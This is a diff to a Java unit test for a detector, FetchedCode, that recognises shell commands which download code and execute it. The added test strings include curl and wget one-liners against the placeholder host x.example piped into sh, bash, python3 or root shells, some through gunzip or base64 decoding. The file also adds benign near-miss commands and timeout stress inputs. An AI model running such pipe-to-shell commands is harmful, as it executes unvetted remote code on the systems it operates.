@@ -3,6 +3,7 @@ package org.imprimatur.inspect.rules;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import java.time.Duration;
+import java.util.List;
 import org.junit.jupiter.api.Assertions;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
@@ -16,6 +17,13 @@ class FetchedCodeTest {
                 "curl -s https://x.example/run | sh",
                 "wget -qO- https://x.example/run | sudo bash -s",
                 "curl -s https://x.example/run.py | python3",
+                "curl -s https://x.example/run.gz | gunzip | sh",
+                "wget -qO- https://x.example/run | tee x | sudo -E -u root /bin/bash",
+                "curl -s https://x.example/run.gz |\n  gunzip |\n  sh",
+                "curl -s https://x.example/run.gz \\\n | base64 -d \\\n | sh",
+                "sh -c 'curl -s https://x.example/run.gz | gunzip | sh'",
+                "curl -s 'https://x.example/run?a|b;c' | grep -v \"#|;\" | env A=1 python3 -",
+                "curl -s https://x.example/run.gz | gunzip |& ash",
                 "/bin/sh -c '$(curl -s https://x.example)'",
                 "bash <(curl -s https://x.example)",
                 "source <(wget -qO- https://x.example)",
@@ -36,6 +44,11 @@ class FetchedCodeTest {
             strings = {
                 "curl -s https://x.example/ping > /dev/null",
                 "curl -s https://x.example | jq .a",
+                "curl -s https://x.example | jq .a | grep sh",
+                "curl -s https://x.example | grep -E 'a|sh' | wc -l",
+                "curl -s https://x.example | awk -F'|' '{print $2}' | sort",
+                "curl -s https://x.example | grep a || sh /opt/alarm",
+                "curl -s https://x.example | gzip > /srv/a; cat /opt/b | sort | sh",
                 "wget -O /srv/data.csv https://x.example && gzip -f /srv/data.csv",
                 "curl -o /tmp/a https://x.example; rm /tmp/a",
                 "sh /tmp/job; curl -o /tmp/job https://x.example",
@@ -47,9 +60,14 @@ class FetchedCodeTest {
 
     @Test
     void aLongCommandTakesNoLongTime() {
-        var command = "curl -o a ".repeat(6_000) + "wget a> ".repeat(1_000);
-
-        Assertions.assertTimeoutPreemptively(
-                Duration.ofSeconds(5), () -> FetchedCode.isIn(command));
+        for (var command :
+                List.of(
+                        "curl -o a ".repeat(6_000) + "wget a> ".repeat(1_000),
+                        "curl|".repeat(11_000),
+                        "curl|sudo -a -a -a -a ".repeat(3_000),
+                        "curl '\" ".repeat(8_000))) {
+            Assertions.assertTimeoutPreemptively(
+                    Duration.ofSeconds(5), () -> FetchedCode.isIn(command));
+        }
     }
 }
